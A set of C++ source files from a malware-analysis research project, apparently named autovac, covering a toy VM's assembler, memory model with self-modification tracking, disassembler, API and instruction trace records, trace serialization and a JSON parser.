              StrFormat("line %d: undefined symbol: %s", fixup.line,
                        fixup.symbol.c_str()));
        }
        value = data.value();
      }
      program_.code[fixup.inst_index].imm = value + fixup.addend;
    }
    return Status::Ok();
  }

  enum class Section { kText, kRdata, kData };

  const ApiResolver& resolver_;
  Program program_;
  Section section_ = Section::kText;
  std::string entry_label_;
  uint32_t rdata_cursor_ = kRdataBase;
  uint32_t data_cursor_ = kDataBase;
  std::vector<PendingFixup> fixups_;
};

}  // namespace

Result<Program> Assemble(std::string_view source,
                         const ApiResolver& api_resolver) {
  AssemblerImpl impl(api_resolver);
  return impl.Run(source);
}

}  // namespace autovac::vm
