// Flat 1 MiB address space with segment permissions.
//
// Layout (constants below):
//   .rdata  — read-only constants (static identifier strings live here;
//             the determinism analysis classifies reads from this segment
//             as `static` sources, exactly as the paper does for x86
//             .rdata)
//   .data   — read/write globals and buffers
//   heap    — bump-allocated by the kernel's VirtualAlloc
//   stack   — grows down from kStackTop
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "support/status.h"

namespace autovac::vm {

inline constexpr uint32_t kMemSize = 0x100000;  // 1 MiB
inline constexpr uint32_t kRdataBase = 0x1000;
inline constexpr uint32_t kRdataEnd = 0x10000;
inline constexpr uint32_t kDataBase = 0x10000;
inline constexpr uint32_t kDataEnd = 0x40000;
inline constexpr uint32_t kHeapBase = 0x40000;
inline constexpr uint32_t kHeapEnd = 0xE0000;
inline constexpr uint32_t kStackBase = 0xE0000;  // lowest valid stack byte
inline constexpr uint32_t kStackTop = 0xFFFF0;   // initial ESP

// Write-then-execute tracking granularity. Guest stores bump a per-page
// write generation; the CPU records the generation it last decoded per
// page, so executing a page whose bytes changed since the last decode is
// detectable in O(1) — the "concatic" unpacking detector.
inline constexpr uint32_t kCodePageSize = 256;
inline constexpr uint32_t kNumCodePages = kMemSize / kCodePageSize;

// Result of a memory access attempt.
enum class MemFault {
  kNone = 0,
  kOutOfBounds,
  kWriteToReadOnly,
};

class Memory {
 public:
  Memory() : bytes_(kMemSize, 0) {}

  // Direct byte accessors with bounds/permission checking. `enforce_ro`
  // is dropped during program loading.
  [[nodiscard]] MemFault Read8(uint32_t addr, uint32_t* out) const;
  [[nodiscard]] MemFault Read32(uint32_t addr, uint32_t* out) const;
  [[nodiscard]] MemFault Write8(uint32_t addr, uint32_t value);
  [[nodiscard]] MemFault Write32(uint32_t addr, uint32_t value);

  // Loader-only: writes that ignore read-only protection.
  void LoaderWrite(uint32_t addr, std::string_view bytes);

  // Reads a NUL-terminated string (capped at `max_len`); returns what was
  // readable even if the terminator is missing.
  [[nodiscard]] std::string ReadCString(uint32_t addr,
                                        size_t max_len = 4096) const;

  // Writes `text` plus a NUL terminator; truncates to fit `capacity` when
  // capacity > 0. Returns bytes written including the NUL.
  uint32_t WriteCString(uint32_t addr, std::string_view text,
                        uint32_t capacity = 0);

  // Raw span access for trace/digest purposes (no permission checks).
  [[nodiscard]] std::string_view RawView(uint32_t addr, uint32_t size) const;

  [[nodiscard]] static bool InBounds(uint32_t addr, uint32_t size) {
    return addr < kMemSize && size <= kMemSize - addr;
  }
  [[nodiscard]] static bool IsReadOnly(uint32_t addr) {
    return addr >= kRdataBase && addr < kRdataEnd;
  }
  [[nodiscard]] static bool IsRdata(uint32_t addr) { return IsReadOnly(addr); }

  // --- write-then-execute tracking -------------------------------------
  // Guest stores (Write8/Write32/WriteCString) bump the write generation
  // of every page they touch; LoaderWrite does not — the loaded image is
  // the baseline, only runtime self-modification counts. The CPU stamps
  // exec generations as it decodes, so both live inside Memory and ride
  // along with machine snapshots for free.
  [[nodiscard]] static uint32_t PageOf(uint32_t addr) {
    return addr / kCodePageSize;
  }
  [[nodiscard]] uint32_t page_write_gen(uint32_t page) const {
    return write_gen_[page];
  }
  [[nodiscard]] uint32_t page_exec_gen(uint32_t page) const {
    return exec_gen_[page];
  }
  void set_page_exec_gen(uint32_t page, uint32_t gen) {
    exec_gen_[page] = gen;
  }

 private:
  void NoteWrite(uint32_t addr, uint32_t size) {
    const uint32_t first = PageOf(addr);
    const uint32_t last = PageOf(addr + size - 1);
    ++write_gen_[first];
    if (last != first) ++write_gen_[last];
  }

  std::vector<uint8_t> bytes_;
  std::vector<uint32_t> write_gen_ = std::vector<uint32_t>(kNumCodePages, 0);
  std::vector<uint32_t> exec_gen_ = std::vector<uint32_t>(kNumCodePages, 0);
};

}  // namespace autovac::vm
