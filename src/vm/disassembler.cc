#include "vm/disassembler.h"

#include <map>

#include "support/strings.h"

namespace autovac::vm {
namespace {

std::string Mem(Reg base, int64_t disp) {
  if (base == Reg::kNone) return StrFormat("[%lld]", static_cast<long long>(disp));
  if (disp == 0) return StrFormat("[%s]", std::string(RegName(base)).c_str());
  return StrFormat("[%s%+lld]", std::string(RegName(base)).c_str(),
                   static_cast<long long>(disp));
}

std::string R(Reg reg) { return std::string(RegName(reg)); }

}  // namespace

std::string DisassembleInstruction(const Instruction& inst,
                                   const ApiNamer& namer) {
  const std::string name(OpName(inst.op));
  switch (inst.op) {
    case Op::kNop:
    case Op::kHlt:
    case Op::kRet:
      return name;
    case Op::kMovRI:
      return StrFormat("mov %s, %lld", R(inst.r1).c_str(),
                       static_cast<long long>(inst.imm));
    case Op::kMovRR:
      return StrFormat("mov %s, %s", R(inst.r1).c_str(), R(inst.r2).c_str());
    case Op::kLoad:
    case Op::kLoadB:
    case Op::kLea:
      return StrFormat("%s %s, %s", name.c_str(), R(inst.r1).c_str(),
                       Mem(inst.r2, inst.imm).c_str());
    case Op::kStore:
    case Op::kStoreB:
      return StrFormat("%s %s, %s", name.c_str(),
                       Mem(inst.r1, inst.imm).c_str(), R(inst.r2).c_str());
    case Op::kPushR:
      return StrFormat("push %s", R(inst.r1).c_str());
    case Op::kPushI:
      return StrFormat("push %lld", static_cast<long long>(inst.imm));
    case Op::kPopR:
      return StrFormat("pop %s", R(inst.r1).c_str());
    case Op::kAddRR: case Op::kSubRR: case Op::kXorRR: case Op::kAndRR:
    case Op::kOrRR: case Op::kMulRR: case Op::kCmpRR: case Op::kTestRR:
      return StrFormat("%s %s, %s", name.c_str(), R(inst.r1).c_str(),
                       R(inst.r2).c_str());
    case Op::kAddRI: case Op::kSubRI: case Op::kXorRI: case Op::kAndRI:
    case Op::kOrRI: case Op::kMulRI: case Op::kShlRI: case Op::kShrRI:
    case Op::kCmpRI: case Op::kTestRI:
      return StrFormat("%s %s, %lld", name.c_str(), R(inst.r1).c_str(),
                       static_cast<long long>(inst.imm));
    case Op::kNotR: case Op::kNegR: case Op::kIncR: case Op::kDecR:
      return StrFormat("%s %s", name.c_str(), R(inst.r1).c_str());
    case Op::kJmp: case Op::kJz: case Op::kJnz: case Op::kJg: case Op::kJl:
    case Op::kJge: case Op::kJle: case Op::kCall:
      return StrFormat("%s %lld", name.c_str(),
                       static_cast<long long>(inst.imm));
    case Op::kSys: {
      if (namer) {
        if (auto api = namer(inst.imm)) {
          return StrFormat("sys %s", api->c_str());
        }
      }
      return StrFormat("sys %lld", static_cast<long long>(inst.imm));
    }
    case Op::kOpCount:
      break;
  }
  return "<bad>";
}

std::string DisassembleProgram(const Program& program, const ApiNamer& namer) {
  // Invert the label table for annotation.
  std::map<uint32_t, std::string> labels;
  for (const auto& [label, pc] : program.code_symbols) labels[pc] = label;

  std::string out;
  if (!program.name.empty()) out += ".name " + program.name + "\n";
  out += ".text\n";
  for (uint32_t pc = 0; pc < program.code.size(); ++pc) {
    if (auto it = labels.find(pc); it != labels.end()) {
      out += it->second + ":\n";
    }
    out += StrFormat("  %4u: %s\n", pc,
                     DisassembleInstruction(program.code[pc], namer).c_str());
  }
  return out;
}

}  // namespace autovac::vm
