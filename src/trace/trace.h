// Execution traces.
//
// Phase-I logs every executed API with "the precise calling context
// information including the call stack and the caller-PC" (paper §III-B);
// Phase-II's differential analysis aligns two such API traces; the
// determinism analysis walks an instruction-level trace backwards.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "os/resources.h"
#include "vm/cpu.h"

namespace autovac::trace {

// Byte-level dataflow summary of an API call, for the offline backward
// taint tracking (§IV-C): string helpers *copy* bytes between buffers;
// information APIs *define* fresh bytes whose origin class (environment-
// deterministic vs random) decides identifier determinism.
struct DataFlow {
  uint32_t dst = 0;
  uint32_t dst_len = 0;
  uint32_t src = 0;
  uint32_t src_len = 0;
};

enum class DataOrigin : uint8_t {
  kEnvironment = 0,  // per-machine deterministic (computer name, serial)
  kRandom,           // non-deterministic (tick count, temp names, recv)
};

struct DataDefine {
  uint32_t dst = 0;
  uint32_t len = 0;
  DataOrigin origin = DataOrigin::kRandom;
};

// One executed API call.
struct ApiCallRecord {
  std::string api_name;
  uint32_t caller_pc = 0;             // pc of the `sys` instruction
  std::vector<uint32_t> call_stack;   // return pcs, innermost last
  std::vector<std::string> params;    // resolved parameter values (strings
                                      // dereferenced, handles mapped back)
  bool succeeded = false;
  uint32_t result = 0;                // EAX after the call
  uint32_t last_error = 0;

  // Resource annotation (when the API is in the labelling table).
  bool is_resource_api = false;
  os::ResourceType resource_type = os::ResourceType::kFile;
  os::Operation operation = os::Operation::kOpen;
  std::string resource_identifier;    // e.g. the mutex name or file path
  // Where the identifier string lived in VM memory at call time (0 when
  // the identifier came from a handle); anchors the backward analysis.
  uint32_t identifier_addr = 0;
  uint32_t identifier_len = 0;        // including NUL

  // Index of this call within the run (position in the trace).
  uint32_t sequence = 0;

  // Stack argument slots this call actually consumed (differs from the
  // API table for variadic helpers like wsprintfA); the backward slicer
  // pulls exactly these slots into a replayable slice.
  uint8_t stack_args_used = 0;

  // Set by the taint engine when a value tainted by this call later
  // reaches a predicate (cmp/test) — the paper's Phase-I signal.
  bool taint_reached_predicate = false;

  // Byte-level dataflow (string helpers, info APIs); see above.
  std::vector<DataFlow> flows;
  std::vector<DataDefine> defines;
  // Memory spans the call's EAX result was computed from (lstrlen,
  // lstrcmp, crc...): EAX derives from these bytes.
  struct Span {
    uint32_t addr = 0;
    uint32_t len = 0;
  };
  std::vector<Span> eax_sources;

  // True when a hook (mutation or vaccine daemon) overrode the result.
  bool was_forced = false;

  // True when the fault-injection layer failed the call (chaos campaigns,
  // simulated resource exhaustion) — distinct from was_forced so the
  // differential analyses can tell vaccines from injected environment
  // failures.
  bool fault_injected = false;
};

// A full API trace for one run.
struct ApiTrace {
  std::vector<ApiCallRecord> calls;
  vm::StopReason stop_reason = vm::StopReason::kRunning;
  uint64_t cycles_used = 0;

  [[nodiscard]] size_t size() const { return calls.size(); }

  // Number of native calls, the BDR metric's N (paper §VI-E).
  [[nodiscard]] size_t NativeCallCount() const { return calls.size(); }

  // All calls to APIs with the given name.
  [[nodiscard]] std::vector<const ApiCallRecord*> FindCalls(
      std::string_view api_name) const;

  [[nodiscard]] bool ContainsApi(std::string_view api_name) const;
};

// One retired instruction plus its dataflow facts; enough to run the
// backward taint tracking offline, like the paper ("we perform the
// analysis offline on logged traces").
struct InstructionRecord {
  vm::StepInfo step;
  // Which API call (sequence number in the ApiTrace) this `sys`
  // instruction produced, or UINT32_MAX.
  uint32_t api_sequence = UINT32_MAX;
};

struct InstructionTrace {
  std::vector<InstructionRecord> records;

  [[nodiscard]] size_t size() const { return records.size(); }
};

// Renders a one-line summary of a call for logs and reports.
[[nodiscard]] std::string FormatApiCall(const ApiCallRecord& call);

}  // namespace autovac::trace
