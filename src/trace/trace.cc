#include "trace/trace.h"

#include "support/strings.h"

namespace autovac::trace {

std::vector<const ApiCallRecord*> ApiTrace::FindCalls(
    std::string_view api_name) const {
  std::vector<const ApiCallRecord*> out;
  for (const ApiCallRecord& call : calls) {
    if (call.api_name == api_name) out.push_back(&call);
  }
  return out;
}

bool ApiTrace::ContainsApi(std::string_view api_name) const {
  for (const ApiCallRecord& call : calls) {
    if (call.api_name == api_name) return true;
  }
  return false;
}

std::string FormatApiCall(const ApiCallRecord& call) {
  std::string params = StrJoin(call.params, ", ");
  return StrFormat("#%u pc=%u %s(%s) -> %s (err=%u)%s", call.sequence,
                   call.caller_pc, call.api_name.c_str(), params.c_str(),
                   call.succeeded ? "ok" : "FAIL", call.last_error,
                   call.is_resource_api
                       ? StrFormat(" [%s %s '%s']",
                                   std::string(os::ResourceTypeName(
                                                   call.resource_type))
                                       .c_str(),
                                   std::string(os::OperationName(
                                                   call.operation))
                                       .c_str(),
                                   call.resource_identifier.c_str())
                             .c_str()
                       : "");
}

}  // namespace autovac::trace
