#include "trace/serialize.h"

#include "support/strings.h"

namespace autovac::trace {
namespace {

int HexDigit(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

// Splits one line into whitespace-separated tokens.
std::vector<std::string> Tokens(std::string_view line) {
  return StrSplit(line, " \t");
}

bool ParseU32(const std::string& token, uint32_t* out) {
  uint64_t value = 0;
  if (!ParseUint64(token, &value) || value > UINT32_MAX) return false;
  *out = static_cast<uint32_t>(value);
  return true;
}

}  // namespace

std::string EncodeField(std::string_view text) {
  std::string out;
  out.reserve(text.size());
  for (char c : text) {
    if (c > 0x20 && c < 0x7F && c != '%') {
      out.push_back(c);
    } else {
      out += StrFormat("%%%02X", static_cast<unsigned char>(c));
    }
  }
  if (out.empty()) out = "%00";  // keep empty fields tokenizable
  return out;
}

Result<std::string> DecodeField(std::string_view text) {
  if (text == "%00") return std::string();
  std::string out;
  out.reserve(text.size());
  for (size_t i = 0; i < text.size(); ++i) {
    if (text[i] != '%') {
      out.push_back(text[i]);
      continue;
    }
    if (i + 2 >= text.size()) {
      return Status::InvalidArgument("truncated %-escape");
    }
    const int hi = HexDigit(text[i + 1]);
    const int lo = HexDigit(text[i + 2]);
    if (hi < 0 || lo < 0) return Status::InvalidArgument("bad %-escape");
    out.push_back(static_cast<char>(hi * 16 + lo));
    i += 2;
  }
  return out;
}

std::string SerializeApiTrace(const ApiTrace& trace) {
  std::string out = StrFormat("APITRACE v1 %zu %d %llu\n", trace.calls.size(),
                              static_cast<int>(trace.stop_reason),
                              static_cast<unsigned long long>(
                                  trace.cycles_used));
  for (const ApiCallRecord& call : trace.calls) {
    out += StrFormat(
        "C %u %s %u %d %u %u %d %d %d %u %s %u %u %d %u %d\n", call.sequence,
        EncodeField(call.api_name).c_str(), call.caller_pc,
        call.succeeded ? 1 : 0, call.result, call.last_error,
        call.is_resource_api ? 1 : 0,
        static_cast<int>(call.resource_type),
        static_cast<int>(call.operation),
        static_cast<unsigned>(call.stack_args_used),
        EncodeField(call.resource_identifier).c_str(), call.identifier_addr,
        call.identifier_len, call.taint_reached_predicate ? 1 : 0,
        call.was_forced ? 1 : 0, call.fault_injected ? 1 : 0);
    if (!call.call_stack.empty()) {
      out += "S";
      for (uint32_t pc : call.call_stack) out += StrFormat(" %u", pc);
      out += "\n";
    }
    for (const std::string& param : call.params) {
      out += StrFormat("P %s\n", EncodeField(param).c_str());
    }
    for (const DataFlow& flow : call.flows) {
      out += StrFormat("F %u %u %u %u\n", flow.dst, flow.dst_len, flow.src,
                       flow.src_len);
    }
    for (const DataDefine& define : call.defines) {
      out += StrFormat("D %u %u %d\n", define.dst, define.len,
                       static_cast<int>(define.origin));
    }
    for (const auto& span : call.eax_sources) {
      out += StrFormat("X %u %u\n", span.addr, span.len);
    }
  }
  return out;
}

Result<ApiTrace> ParseApiTrace(std::string_view text) {
  ApiTrace trace;
  ApiCallRecord* current = nullptr;
  bool saw_header = false;

  size_t pos = 0;
  while (pos <= text.size()) {
    const size_t eol = text.find('\n', pos);
    std::string_view line =
        text.substr(pos, eol == std::string_view::npos
                             ? std::string_view::npos
                             : eol - pos);
    pos = eol == std::string_view::npos ? text.size() + 1 : eol + 1;
    if (line.empty()) continue;
    auto tokens = Tokens(line);

    if (!saw_header) {
      if (tokens.size() < 5 || tokens[0] != "APITRACE" || tokens[1] != "v1") {
        return Status::InvalidArgument("bad APITRACE header");
      }
      int64_t stop = 0;
      uint64_t cycles = 0;
      if (!ParseInt64(tokens[3], &stop) || !ParseUint64(tokens[4], &cycles)) {
        return Status::InvalidArgument("bad header numbers");
      }
      trace.stop_reason = static_cast<vm::StopReason>(stop);
      trace.cycles_used = cycles;
      saw_header = true;
      continue;
    }

    if (tokens[0] == "C") {
      // 16 tokens = legacy records without the fault-injected flag.
      if (tokens.size() != 16 && tokens.size() != 17) {
        return Status::InvalidArgument("bad C record: " + std::string(line));
      }
      ApiCallRecord call;
      uint32_t fields[13];
      // sequence, caller_pc, succeeded, result, last_error, is_resource,
      // type, op, args, id_addr, id_len, tainted, forced
      const int indices[] = {1, 3, 4, 5, 6, 7, 8, 9, 10, 12, 13, 14, 15};
      for (int i = 0; i < 13; ++i) {
        if (!ParseU32(tokens[indices[i]], &fields[i])) {
          return Status::InvalidArgument("bad C field");
        }
      }
      if (tokens.size() == 17) {
        uint32_t faulted = 0;
        if (!ParseU32(tokens[16], &faulted)) {
          return Status::InvalidArgument("bad C field");
        }
        call.fault_injected = faulted != 0;
      }
      auto name = DecodeField(tokens[2]);
      auto identifier = DecodeField(tokens[11]);
      if (!name.ok() || !identifier.ok()) {
        return Status::InvalidArgument("bad C strings");
      }
      call.sequence = fields[0];
      call.api_name = name.value();
      call.caller_pc = fields[1];
      call.succeeded = fields[2] != 0;
      call.result = fields[3];
      call.last_error = fields[4];
      call.is_resource_api = fields[5] != 0;
      call.resource_type = static_cast<os::ResourceType>(fields[6]);
      call.operation = static_cast<os::Operation>(fields[7]);
      call.stack_args_used = static_cast<uint8_t>(fields[8]);
      call.resource_identifier = identifier.value();
      call.identifier_addr = fields[9];
      call.identifier_len = fields[10];
      call.taint_reached_predicate = fields[11] != 0;
      call.was_forced = fields[12] != 0;
      trace.calls.push_back(std::move(call));
      current = &trace.calls.back();
      continue;
    }

    if (current == nullptr) {
      return Status::InvalidArgument("record before first call: " +
                                     std::string(line));
    }
    if (tokens[0] == "S") {
      for (size_t i = 1; i < tokens.size(); ++i) {
        uint32_t pc = 0;
        if (!ParseU32(tokens[i], &pc)) {
          return Status::InvalidArgument("bad S field");
        }
        current->call_stack.push_back(pc);
      }
    } else if (tokens[0] == "P" && tokens.size() == 2) {
      AUTOVAC_ASSIGN_OR_RETURN(std::string param, DecodeField(tokens[1]));
      current->params.push_back(std::move(param));
    } else if (tokens[0] == "F" && tokens.size() == 5) {
      DataFlow flow;
      if (!ParseU32(tokens[1], &flow.dst) ||
          !ParseU32(tokens[2], &flow.dst_len) ||
          !ParseU32(tokens[3], &flow.src) ||
          !ParseU32(tokens[4], &flow.src_len)) {
        return Status::InvalidArgument("bad F record");
      }
      current->flows.push_back(flow);
    } else if (tokens[0] == "D" && tokens.size() == 4) {
      DataDefine define;
      uint32_t origin = 0;
      if (!ParseU32(tokens[1], &define.dst) ||
          !ParseU32(tokens[2], &define.len) ||
          !ParseU32(tokens[3], &origin)) {
        return Status::InvalidArgument("bad D record");
      }
      define.origin = static_cast<DataOrigin>(origin);
      current->defines.push_back(define);
    } else if (tokens[0] == "X" && tokens.size() == 3) {
      ApiCallRecord::Span span;
      if (!ParseU32(tokens[1], &span.addr) ||
          !ParseU32(tokens[2], &span.len)) {
        return Status::InvalidArgument("bad X record");
      }
      current->eax_sources.push_back(span);
    } else {
      return Status::InvalidArgument("unknown record: " + std::string(line));
    }
  }
  if (!saw_header) return Status::InvalidArgument("empty trace");
  return trace;
}

std::string SerializeInstructionTrace(const InstructionTrace& trace) {
  std::string out =
      StrFormat("INSTTRACE v1 %zu\n", trace.records.size());
  for (const InstructionRecord& record : trace.records) {
    const vm::StepInfo& step = record.step;
    out += StrFormat("I %u %d %d %d %lld %u %u %u %u %u %d %u\n", step.pc,
                     static_cast<int>(step.inst.op),
                     static_cast<int>(step.inst.r1),
                     static_cast<int>(step.inst.r2),
                     static_cast<long long>(step.inst.imm), step.u1, step.u2,
                     step.mem_addr, step.mem_size, step.result,
                     step.branch_taken ? 1 : 0, record.api_sequence);
  }
  return out;
}

Result<InstructionTrace> ParseInstructionTrace(std::string_view text) {
  InstructionTrace trace;
  bool saw_header = false;
  size_t pos = 0;
  while (pos <= text.size()) {
    const size_t eol = text.find('\n', pos);
    std::string_view line =
        text.substr(pos, eol == std::string_view::npos
                             ? std::string_view::npos
                             : eol - pos);
    pos = eol == std::string_view::npos ? text.size() + 1 : eol + 1;
    if (line.empty()) continue;
    auto tokens = Tokens(line);
    if (!saw_header) {
      if (tokens.size() < 3 || tokens[0] != "INSTTRACE" ||
          tokens[1] != "v1") {
        return Status::InvalidArgument("bad INSTTRACE header");
      }
      saw_header = true;
      continue;
    }
    if (tokens[0] != "I" || tokens.size() != 13) {
      return Status::InvalidArgument("bad I record: " + std::string(line));
    }
    InstructionRecord record;
    vm::StepInfo& step = record.step;
    uint32_t op = 0;
    int64_t r1 = 0;
    int64_t r2 = 0;
    int64_t imm = 0;
    uint32_t branch = 0;
    if (!ParseU32(tokens[1], &step.pc) || !ParseU32(tokens[2], &op) ||
        !ParseInt64(tokens[3], &r1) || !ParseInt64(tokens[4], &r2) ||
        !ParseInt64(tokens[5], &imm) || !ParseU32(tokens[6], &step.u1) ||
        !ParseU32(tokens[7], &step.u2) ||
        !ParseU32(tokens[8], &step.mem_addr) ||
        !ParseU32(tokens[9], &step.mem_size) ||
        !ParseU32(tokens[10], &step.result) ||
        !ParseU32(tokens[11], &branch) ||
        !ParseU32(tokens[12], &record.api_sequence)) {
      return Status::InvalidArgument("bad I fields");
    }
    step.inst.op = static_cast<vm::Op>(op);
    step.inst.r1 = static_cast<vm::Reg>(r1);
    step.inst.r2 = static_cast<vm::Reg>(r2);
    step.inst.imm = imm;
    step.branch_taken = branch != 0;
    trace.records.push_back(record);
  }
  if (!saw_header) return Status::InvalidArgument("empty trace");
  return trace;
}

}  // namespace autovac::trace
