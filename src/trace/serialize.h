// Trace (de)serialization.
//
// The paper's differential and determinism analyses run "offline on
// logged traces" (§IV-C); this module gives traces a stable, line-based
// text format so Phase-I logs can be stored, shipped to an analysis
// cluster, and re-parsed. Round-trip is exact for every field the
// analyses consume.
#pragma once

#include <string>
#include <string_view>

#include "support/status.h"
#include "trace/trace.h"

namespace autovac::trace {

// Percent-encoding for identifier/parameter payloads (space-, newline-
// and %-safe; everything else passes through).
[[nodiscard]] std::string EncodeField(std::string_view text);
[[nodiscard]] Result<std::string> DecodeField(std::string_view text);

[[nodiscard]] std::string SerializeApiTrace(const ApiTrace& trace);
[[nodiscard]] Result<ApiTrace> ParseApiTrace(std::string_view text);

[[nodiscard]] std::string SerializeInstructionTrace(
    const InstructionTrace& trace);
[[nodiscard]] Result<InstructionTrace> ParseInstructionTrace(
    std::string_view text);

}  // namespace autovac::trace
