#include "support/json.h"

#include <cctype>
#include <cstdlib>

#include "support/strings.h"

namespace autovac {
namespace {

// Recursion guard: journal records nest a handful of levels, anything
// deeper is hostile input, not a campaign artifact.
constexpr int kMaxDepth = 64;

class Parser {
 public:
  explicit Parser(std::string_view text) : text_(text) {}

  Result<JsonValue> Parse() {
    AUTOVAC_ASSIGN_OR_RETURN(JsonValue value, ParseValue(0));
    SkipWhitespace();
    if (pos_ != text_.size()) {
      return Status::InvalidArgument(
          StrFormat("trailing bytes after JSON value at offset %zu", pos_));
    }
    return value;
  }

 private:
  void SkipWhitespace() {
    while (pos_ < text_.size() &&
           (text_[pos_] == ' ' || text_[pos_] == '\t' ||
            text_[pos_] == '\n' || text_[pos_] == '\r')) {
      ++pos_;
    }
  }

  [[nodiscard]] bool Consume(char c) {
    if (pos_ < text_.size() && text_[pos_] == c) {
      ++pos_;
      return true;
    }
    return false;
  }

  Status Expect(char c) {
    if (!Consume(c)) {
      return Status::InvalidArgument(
          StrFormat("expected '%c' at offset %zu", c, pos_));
    }
    return Status::Ok();
  }

  Result<JsonValue> ParseValue(int depth) {
    if (depth > kMaxDepth) {
      return Status::InvalidArgument("JSON nesting too deep");
    }
    SkipWhitespace();
    if (pos_ >= text_.size()) {
      return Status::InvalidArgument("truncated JSON value");
    }
    const char c = text_[pos_];
    switch (c) {
      case '{': return ParseObject(depth);
      case '[': return ParseArray(depth);
      case '"': return ParseString();
      case 't':
      case 'f': return ParseBool();
      case 'n': return ParseNull();
      default: return ParseNumber();
    }
  }

  Result<JsonValue> ParseObject(int depth) {
    AUTOVAC_RETURN_IF_ERROR(Expect('{'));
    JsonValue value;
    value.kind = JsonValue::Kind::kObject;
    SkipWhitespace();
    if (Consume('}')) return value;
    while (true) {
      SkipWhitespace();
      AUTOVAC_ASSIGN_OR_RETURN(JsonValue key, ParseString());
      SkipWhitespace();
      AUTOVAC_RETURN_IF_ERROR(Expect(':'));
      AUTOVAC_ASSIGN_OR_RETURN(JsonValue member, ParseValue(depth + 1));
      value.object.emplace_back(std::move(key.string_value),
                                std::move(member));
      SkipWhitespace();
      if (Consume('}')) return value;
      AUTOVAC_RETURN_IF_ERROR(Expect(','));
    }
  }

  Result<JsonValue> ParseArray(int depth) {
    AUTOVAC_RETURN_IF_ERROR(Expect('['));
    JsonValue value;
    value.kind = JsonValue::Kind::kArray;
    SkipWhitespace();
    if (Consume(']')) return value;
    while (true) {
      AUTOVAC_ASSIGN_OR_RETURN(JsonValue element, ParseValue(depth + 1));
      value.array.push_back(std::move(element));
      SkipWhitespace();
      if (Consume(']')) return value;
      AUTOVAC_RETURN_IF_ERROR(Expect(','));
    }
  }

  Result<JsonValue> ParseString() {
    AUTOVAC_RETURN_IF_ERROR(Expect('"'));
    JsonValue value;
    value.kind = JsonValue::Kind::kString;
    std::string& out = value.string_value;
    while (pos_ < text_.size()) {
      const char c = text_[pos_++];
      if (c == '"') return value;
      if (static_cast<unsigned char>(c) < 0x20) {
        // RFC 8259: control characters must be escaped. A raw one here
        // usually means a torn journal record, so fail loudly.
        return Status::InvalidArgument("raw control byte in JSON string");
      }
      if (c != '\\') {
        out.push_back(c);
        continue;
      }
      if (pos_ >= text_.size()) break;
      const char esc = text_[pos_++];
      switch (esc) {
        case '"': out.push_back('"'); break;
        case '\\': out.push_back('\\'); break;
        case '/': out.push_back('/'); break;
        case 'b': out.push_back('\b'); break;
        case 'f': out.push_back('\f'); break;
        case 'n': out.push_back('\n'); break;
        case 'r': out.push_back('\r'); break;
        case 't': out.push_back('\t'); break;
        case 'u': {
          if (pos_ + 4 > text_.size()) {
            return Status::InvalidArgument("truncated \\u escape");
          }
          uint32_t code = 0;
          for (int i = 0; i < 4; ++i) {
            const char h = text_[pos_++];
            code <<= 4;
            if (h >= '0' && h <= '9') code |= static_cast<uint32_t>(h - '0');
            else if (h >= 'a' && h <= 'f') code |= static_cast<uint32_t>(h - 'a' + 10);
            else if (h >= 'A' && h <= 'F') code |= static_cast<uint32_t>(h - 'A' + 10);
            else return Status::InvalidArgument("bad \\u escape");
          }
          // Our writers only emit \u00XX (control bytes); decode those to
          // the raw byte. Larger code points are passed through UTF-8 by
          // the writers unescaped, so reject them here rather than guess.
          if (code > 0xFF) {
            return Status::InvalidArgument("non-byte \\u escape");
          }
          out.push_back(static_cast<char>(code));
          break;
        }
        default:
          return Status::InvalidArgument(
              StrFormat("bad escape '\\%c'", esc));
      }
    }
    return Status::InvalidArgument("unterminated JSON string");
  }

  Result<JsonValue> ParseBool() {
    if (text_.substr(pos_, 4) == "true") {
      pos_ += 4;
      JsonValue value;
      value.kind = JsonValue::Kind::kBool;
      value.bool_value = true;
      return value;
    }
    if (text_.substr(pos_, 5) == "false") {
      pos_ += 5;
      JsonValue value;
      value.kind = JsonValue::Kind::kBool;
      value.bool_value = false;
      return value;
    }
    return Status::InvalidArgument("bad literal");
  }

  Result<JsonValue> ParseNull() {
    if (text_.substr(pos_, 4) == "null") {
      pos_ += 4;
      return JsonValue();
    }
    return Status::InvalidArgument("bad literal");
  }

  Result<JsonValue> ParseNumber() {
    const size_t start = pos_;
    if (Consume('-')) {}
    while (pos_ < text_.size() &&
           (std::isdigit(static_cast<unsigned char>(text_[pos_])) != 0 ||
            text_[pos_] == '.' || text_[pos_] == 'e' || text_[pos_] == 'E' ||
            text_[pos_] == '+' || text_[pos_] == '-')) {
      ++pos_;
    }
    if (pos_ == start || (pos_ == start + 1 && text_[start] == '-')) {
      return Status::InvalidArgument(
          StrFormat("bad JSON token at offset %zu", start));
    }
    // RFC 8259 forbids leading zeros ("01"); our writers never produce
    // them, so one in a journal means corruption, not style.
    const size_t digits = text_[start] == '-' ? start + 1 : start;
    if (text_[digits] == '0' && digits + 1 < pos_ &&
        std::isdigit(static_cast<unsigned char>(text_[digits + 1])) != 0) {
      return Status::InvalidArgument(
          StrFormat("leading zero in JSON number at offset %zu", start));
    }
    JsonValue value;
    value.kind = JsonValue::Kind::kNumber;
    value.number = std::string(text_.substr(start, pos_ - start));
    return value;
  }

  std::string_view text_;
  size_t pos_ = 0;
};

}  // namespace

const JsonValue* JsonValue::Find(std::string_view key) const {
  if (kind != Kind::kObject) return nullptr;
  const JsonValue* found = nullptr;
  for (const auto& [name, value] : object) {
    if (name == key) found = &value;
  }
  return found;
}

Result<uint64_t> JsonValue::AsUint64() const {
  if (kind != Kind::kNumber) {
    return Status::InvalidArgument("JSON value is not a number");
  }
  uint64_t out = 0;
  if (!ParseUint64(number, &out)) {
    return Status::InvalidArgument("not an unsigned integer: " + number);
  }
  return out;
}

Result<int64_t> JsonValue::AsInt64() const {
  if (kind != Kind::kNumber) {
    return Status::InvalidArgument("JSON value is not a number");
  }
  int64_t out = 0;
  if (!ParseInt64(number, &out)) {
    return Status::InvalidArgument("not an integer: " + number);
  }
  return out;
}

Result<double> JsonValue::AsDouble() const {
  if (kind != Kind::kNumber) {
    return Status::InvalidArgument("JSON value is not a number");
  }
  char* end = nullptr;
  const double out = std::strtod(number.c_str(), &end);
